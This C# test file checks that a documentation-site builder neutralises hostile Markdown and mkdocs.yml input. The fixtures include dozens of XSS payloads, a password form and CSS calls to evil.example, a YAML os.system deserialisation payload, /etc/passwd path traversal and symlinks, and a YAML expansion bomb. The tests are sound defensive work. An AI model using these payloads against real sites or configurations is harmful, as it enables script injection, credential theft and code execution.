using System.Text;
using AngleSharp.Html.Parser;
using DevPlatform.Shared.Errors;

namespace DevPlatform.Catalog.Tests.TechDocs;

/// <summary>Docs that attack: whatever they hold, the site is built or refused, and nothing in it runs.</summary>
public sealed class HostileDocsTests
{
    public static TheoryData<string> Scripts =>
    [
        "<script>alert(1)</script>", "<SCRIPT src=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)><script>1</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))", "![x](javascript:alert(1))",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\" &#1; javascript:alert(1)\">x</a>", "[x](vbscript:x)", "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]", "text {onclick=alert(1) style=background:url(javascript:1)}", "# Heading {onmouseover=\"alert(1)\"}",
        "<form action=https://evil.example><input name=password type=password><button>Go</button></form>", "<style>body{background:url(https://evil.example)}</style>",
        "<link rel=stylesheet href=https://evil.example/main.12345678.min.css>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>", "<object data=x></object><embed src=x>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<div style=\"position:fixed;inset:0;background:red\">x</div>",
        "```\"><script>alert(1)</script>\nx\n```", "```js title=\"</span><script>alert(1)</script>\"\nx\n```", "!!! note \"<script>alert(1)</script>\"\n    x",
        "=== \"<img src=x onerror=alert(1)>\"\n    x", "???+ x\" onclick=\"alert(1)\n    x", "```mermaid\n</code></pre><script>alert(1)</script>\n```",
        "*[a]: \" onclick=\"alert(1)\n\na", "[^1]\n\n[^1]: <script>alert(1)</script>", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=1> |",
        "---\ntitle: <script>alert(1)</script>\ndescription: '\"><script>alert(1)</script>'\n---\nx", "<template><script>alert(1)</script></template>",
        "<video src=x onerror=alert(1)></video>", "<details ontoggle=alert(1) open>x</details>", "<a href=\"https://x\" target=_top ping=https://evil.example>x</a>",
    ];

    [Theory]
    [MemberData(nameof(Scripts))]
    public async Task Nothing_runs_submits_embeds_or_restyles(string markdown)
    {
        using var docs = new DocsRepository(("docs/index.md", markdown), ("docs/<img src=x onerror=alert(1)>.md", "x"), ("mkdocs.yml", "site_name: '</title><script>alert(1)</script>'\n"));
        var page = new HtmlParser().ParseDocument(await docs.PageAsync());
        var article = page.QuerySelector("article")!;
        page.QuerySelectorAll("script, iframe, object, embed, form, button, style, base, template, math, video, noscript, meta[http-equiv]").ShouldBeEmpty();
        article.QuerySelectorAll("link, meta, title, input:not([type=radio]):not([type=checkbox])").ShouldBeEmpty();
        page.QuerySelectorAll("link").Length.ShouldBe(1);
        foreach (var element in page.All)
        {
            element.Attributes.Where(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Name is "ping" or "srcdoc" or "formaction").ShouldBeEmpty(element.OuterHtml);
            foreach (var url in new[] { element.GetAttribute("href"), element.GetAttribute("src") }.OfType<string>())
            {
                Uri.TryCreate(new Uri("https://portal.example/docs/"), url, out var target).ShouldBeTrue(url);
                target!.Scheme.ShouldBeOneOf("https", "http", "mailto");
            }

            (element.GetAttribute("style") ?? "").ShouldMatch("^(text-align: ?[a-z]+;?)?$");
        }
    }

    [Theory]
    [InlineData("site_name: !!python/object/apply:os.system [\"touch /tmp/owned\"]\n", "site_name")]
    [InlineData("site_name: x\ndocs_dir: ../..\n", "docs_dir")]
    [InlineData("site_name: x\ndocs_dir: /etc\n", "docs_dir")]
    [InlineData("site_name: x\nnav: {a: b}\n", "nav")]
    [InlineData("site_name: [unclosed\n", "mkdocs.yml:")]
    [InlineData("a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n", "too large")]
    [InlineData("", "mkdocs.yml")]
    public async Task A_configuration_that_cannot_be_used_is_refused_with_file_and_reason(string config, string expected)
    {
        using var docs = new DocsRepository(("mkdocs.yml", config), ("docs/index.md", "x"));
        (await Should.ThrowAsync<InputException>(() => docs.BuildAsync())).Message.ShouldContain(expected);
    }

    [Fact]
    public async Task A_directory_that_is_not_there_is_said_to_be_missing()
    {
        using var docs = new DocsRepository(("mkdocs.yml", "site_name: x\ndocs_dir: missing\n"), ("docs/index.md", "x"));
        (await Should.ThrowAsync<NotFoundException>(() => docs.BuildAsync())).Message.ShouldContain("no directory \"missing\"");
    }

    [Fact]
    public async Task Programs_in_a_configuration_are_named_and_not_run()
    {
        using var docs = new DocsRepository(
            ("mkdocs.yml", "site_name: !ENV HOME\nhooks: [evil.py]\nplugins:\n  - techdocs-core\n  - macros: {module_name: evil}\nmarkdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"),
            ("docs/index.md", "x"));
        var (site, _, report) = await docs.BuildAsync();
        site.Metadata["site_name"]!.GetValue<string>().ShouldBe("HOME");
        report.Warnings.ShouldBe(["mkdocs.yml: \"hooks\" is ignored", "mkdocs.yml: plugin \"macros\" is ignored: plugins are not run"]);
    }

    [Fact]
    public async Task Symbolic_links_and_paths_out_of_the_repository_are_not_followed()
    {
        using var docs = new DocsRepository(("docs/index.md", "[a](../../../etc/passwd) [b](..%2f..%2fetc/passwd) [c](link.txt) [d](%00)\n\n--8<-- \"../../etc/passwd\"\n"));
        docs.Commit([], ("docs/link.txt", "/etc/passwd"), ("docs/link.md", "/etc/passwd"), ("docs/dir", "/usr/share/doc"));
        var (_, files, report) = await docs.BuildAsync();
        files.Keys.ShouldNotContain(path => path.Contains("link") || path.Contains("dir/"));
        files["index.html"].ShouldNotContain("root:");
        report.Warnings.Count(warning => warning.EndsWith("symbolic links are not followed", StringComparison.Ordinal)).ShouldBe(3);
        report.BrokenLinks.Select(link => link.Link).ShouldBe(["../../etc/passwd", "../../../etc/passwd", "..%2f..%2fetc/passwd", "link.txt", "%00"]);
    }

    [Fact]
    public async Task What_is_too_much_is_refused_or_left_out()
    {
        using var docs = new DocsRepository(("docs/index.md", "# Fine"), ("docs/large.md", new string('x', 3_000)), ("docs/a.bin", new string('x', 4_000)));
        docs.Options.MaxPageBytes = 2_000;
        var (_, files, report) = await docs.BuildAsync();
        report.Warnings.ShouldHaveSingleItem().ShouldBe("large.md is not shown: found 3000 bytes; allowed: at most 2000");
        files["large/index.html"].ShouldContain("too large to be shown");
        docs.Options.MaxFiles = 2;
        (await Should.ThrowAsync<InputException>(() => docs.BuildAsync())).Message.ShouldBe("docs: found 3 files; allowed: at most 2");
        docs.Options.MaxFiles = 3;
        docs.Options.MaxSiteBytes = 6_000;
        (await Should.ThrowAsync<InputException>(() => docs.BuildAsync())).Message.ShouldContain("too large");
    }

    [Theory]
    [InlineData("<div>", 20_000)]
    [InlineData("<div></x>", 20_000)]
    [InlineData("> ", 20_000)]
    [InlineData("- ", 20_000)]
    [InlineData("[", 50_000)]
    [InlineData("![", 30_000)]
    [InlineData("**a", 30_000)]
    [InlineData("`", 50_000)]
    [InlineData("<b><p>", 10_000)]
    [InlineData("|", 20_000)]
    [InlineData("!!! a\n    ", 5_000)]
    [InlineData("[a](", 8_000)]
    [InlineData("&amp", 50_000)]
    [InlineData("{a=", 8_000)]
    [InlineData("~^=+", 20_000)]
    [InlineData("[^a]:", 10_000)]
    [InlineData("# a\n", 5_000)]
    [InlineData("--8<-- \"docs/index.md\"\n", 1_000)]
    public async Task Pathological_markdown_is_built_within_the_bounds_of_a_build(string part, int times)
    {
        using var docs = new DocsRepository(("docs/index.md", string.Concat(Enumerable.Repeat(part, times))));
        var (site, _, _) = await docs.BuildAsync().WaitAsync(TimeSpan.FromMinutes(2));
        site.Pages.ShouldHaveSingleItem();
    }

    [Fact]
    public async Task Text_that_is_no_text_is_a_page_all_the_same()
    {
        using var docs = new DocsRepository();
        docs.Commit([("docs/index.md", [0xFF, 0xFE, 0, 1, 2, 0x80]), ("docs/café ☕.md", Encoding.UTF8.GetBytes("# ☕"))]);
        var (_, files, _) = await docs.BuildAsync();
        files.Keys.ShouldContain("café ☕/index.html");
        files["index.html"].ShouldContain("href=\"caf%C3%A9%20%E2%98%95/\"");
    }
}
